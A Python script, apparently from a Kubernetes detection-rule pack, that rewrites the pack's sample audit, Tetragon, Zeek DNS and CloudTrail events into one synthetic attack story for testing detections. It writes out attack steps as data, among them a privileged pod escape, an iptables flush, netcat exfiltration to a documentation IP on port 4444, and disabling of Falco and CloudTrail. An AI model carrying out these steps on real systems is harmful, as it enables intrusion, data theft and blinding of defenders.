#!/usr/bin/env python3
"""Builds Examples/attack-story from the detection pack's own samples, rewritten so they tell
one story: a stolen CI token deploys a privileged pod in `payments`, breaks out to the node,
turns off defences, and exfiltrates over netcat and DNS. Benign records are interleaved.
Re-run after changing the samples: python3 scripts/make-example-story.py"""
import json, os, copy

ROOT = os.path.join(os.path.dirname(__file__), '..')
D = os.path.join(ROOT, 'Detections')
OUT = os.path.join(ROOT, 'Examples', 'attack-story')
NS, POD, NODE = 'payments', 'debug-tools', 'ip-10-0-21-37.ec2.internal'
USER, IP = 'system:serviceaccount:ci:deployer', '198.51.100.23'
CID = 'containerd://9f3c1e7a2b4d6f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7081'
POD_IP = '10.244.3.17'

def load(p):
    return json.load(open(os.path.join(D, p)))

def k8s(p, t, **over):
    e = load(p)
    e['user'] = {'username': USER, 'uid': 'a3f0c2d4-1111-4b2c-9d3e-0f1e2d3c4b5a', 'groups': ['system:serviceaccounts', 'system:serviceaccounts:ci', 'system:authenticated']}
    e['sourceIPs'] = [IP]
    e['userAgent'] = 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46'
    e['requestReceivedTimestamp'] = e['stageTimestamp'] = t
    for k, v in over.items():
        cur = e
        keys = k.split('__')
        for kk in keys[:-1]: cur = cur[kk]
        cur[keys[-1]] = v
    return e

def tetragon(p, t, binary=None, args=None):
    e = load(p)
    proc = e['process_exec']['process']
    for part in (proc, e['process_exec'].get('parent', {})):
        if 'pod' in part:
            part['pod']['namespace'] = NS
            part['pod']['name'] = POD
            part['pod']['container']['id'] = CID
            part['pod']['container']['name'] = 'tools'
            part['pod']['container']['image'] = {'id': 'docker.io/library/alpine@sha256:beefed5c0ffee0ddba11ca11ab1ef00d5eedfacadebadcafe0123456789abcdef', 'name': 'docker.io/library/alpine:latest'}
    if binary: proc['binary'] = binary
    if args is not None: proc['arguments'] = args
    proc['start_time'] = t
    e['time'] = t
    e['node_name'] = NODE
    return e

story = []
# 1. Benign: the payments team checks its database as usual.
benign = load('kubernetes/execution_pod_exec_shell_or_network_tool/events/silent-exec-pg-isready.json')
benign['requestReceivedTimestamp'] = benign['stageTimestamp'] = '2026-11-20T14:00:05.120000Z'
story.append(('k8s', benign))
# 2. A stolen CI token creates a privileged, host-PID pod from a public :latest image.
pod = k8s('kubernetes/privilege_escalation_privileged_hostpid_pod/events/fires-node-shell-pod.json', '2026-11-20T14:02:11.480000Z')
pod['objectRef'].update({'namespace': NS, 'name': POD})
pod['requestURI'] = f'/api/v1/namespaces/{NS}/pods?fieldManager=kubectl-client-side-apply'
pod['requestObject']['metadata'].update({'name': POD, 'namespace': NS, 'labels': {'run': POD}})
pod['requestObject']['spec']['containers'][0].update({'name': 'tools', 'image': 'alpine:latest', 'command': ['sleep', 'infinity']})
pod['requestObject']['spec']['nodeName'] = NODE
story.append(('k8s', pod))
# 2b. The kubelet reports the pod running, with its IP: bulkhead learns IP -> pod from this.
status = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
          "auditID": "5d0c4a1e-3b7f-4a51-9c2e-0b8f1d2e3a41", "stage": "ResponseComplete",
          "requestURI": f"/api/v1/namespaces/{NS}/pods/{POD}/status", "verb": "patch",
          "user": {"username": f"system:node:{NODE}", "groups": ["system:nodes", "system:authenticated"]},
          "sourceIPs": ["10.0.21.37"], "userAgent": "kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46",
          "objectRef": {"resource": "pods", "namespace": NS, "name": POD, "apiVersion": "v1", "subresource": "status"},
          "responseStatus": {"metadata": {}, "code": 200},
          "responseObject": {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": POD, "namespace": NS, "labels": {"run": POD}},
                             "spec": {"nodeName": NODE, "serviceAccountName": "default"},
                             "status": {"phase": "Running", "podIP": POD_IP, "podIPs": [{"ip": POD_IP}],
                                        "containerStatuses": [{"name": "tools", "containerID": CID, "image": "docker.io/library/alpine:latest", "ready": True}]}},
          "requestReceivedTimestamp": "2026-11-20T14:02:14.210000Z", "stageTimestamp": "2026-11-20T14:02:14.215000Z"}
story.append(('k8s', status))
# 3. kubectl exec into it with a shell.
ex = k8s('kubernetes/execution_pod_exec_shell_or_network_tool/events/fires-exec-interactive-bash.json', '2026-11-20T14:03:40.002000Z')
ex['objectRef'].update({'namespace': NS, 'name': POD})
ex['requestURI'] = f'/api/v1/namespaces/{NS}/pods/{POD}/exec?command=sh&container=tools&stdin=true&stdout=true&tty=true'
story.append(('k8s', ex))
# 4-6. Inside the pod: escape into the node's namespaces, flush the firewall, netcat a file out.
story.append(('rt', tetragon('runtime/privilege_escalation_nsenter_host_pid1/events/fires-nsenter-t1-all-namespaces.json', '2026-11-20T14:04:02.311000000Z')))
story.append(('rt', tetragon('runtime/defense_evasion_firewall_flush_or_accept_policy/events/silent-iptables-list.json', '2026-11-20T14:04:30.100000000Z')))
story.append(('rt', tetragon('runtime/defense_evasion_firewall_flush_or_accept_policy/events/fires-iptables-policy-accept-pod.json', '2026-11-20T14:04:31.907000000Z', args='-F')))
story.append(('rt', tetragon('runtime/exfiltration_netcat_remote_connection/events/fires-nc-exfil-storefront.json', '2026-11-20T14:05:12.554000000Z', args='-w 3 203.0.113.50 4444')))
# 7. DNS exfiltration with base64 labels (Zeek dns.log as JSON), among ordinary lookups.
dns = []
for line in open(os.path.join(D, 'dns/exfiltration_dns_encoded_label/events/silent-zeek-short-labels.jsonl')):
    r = json.loads(line); r['ts'] = 1795183500.0 + len(dns); dns.append(r)
for line in open(os.path.join(D, 'dns/exfiltration_dns_encoded_label/events/fires-zeek-b64-label-storefront.jsonl')):
    r = json.loads(line); r['ts'] = 1795183560.0 + len(dns); r['id.orig_h'] = POD_IP; dns.append(r)
# 8-9. Defences off: Falco's DaemonSet deleted, the namespace's default-deny policy removed.
story.append(('k8s', k8s('kubernetes/defense_evasion_security_agent_workload_deleted/events/fires-falco-daemonset-deleted.json', '2026-11-20T14:09:44.730000Z')))
story.append(('k8s', k8s('kubernetes/defense_evasion_network_policy_deleted/events/fires-default-deny-deleted.json', '2026-11-20T14:10:02.318000Z')))
# 10. With the node role's credentials, CloudTrail logging is stopped.
ct = load('aws/defense_evasion_cloudtrail_logging_stopped/events/fires-stop-logging-node-role.json')
ct['eventTime'] = '2026-11-20T14:12:09Z'
benign_ct = load('aws/defense_evasion_cloudtrail_logging_stopped/events/silent-start-logging.json')
benign_ct['eventTime'] = '2026-11-20T13:58:00Z'

os.makedirs(OUT, exist_ok=True)
with open(os.path.join(OUT, '01-kubernetes-audit.jsonl'), 'w') as f:
    for kind, e in story:
        if kind == 'k8s': f.write(json.dumps(e) + '\n')
with open(os.path.join(OUT, '02-tetragon.jsonl'), 'w') as f:
    for kind, e in story:
        if kind == 'rt': f.write(json.dumps(e) + '\n')
with open(os.path.join(OUT, '03-zeek-dns.jsonl'), 'w') as f:
    for r in dns: f.write(json.dumps(r) + '\n')
with open(os.path.join(OUT, '04-cloudtrail.json'), 'w') as f:
    json.dump({'Records': [benign_ct, ct]}, f, indent=2)
print('wrote', OUT)
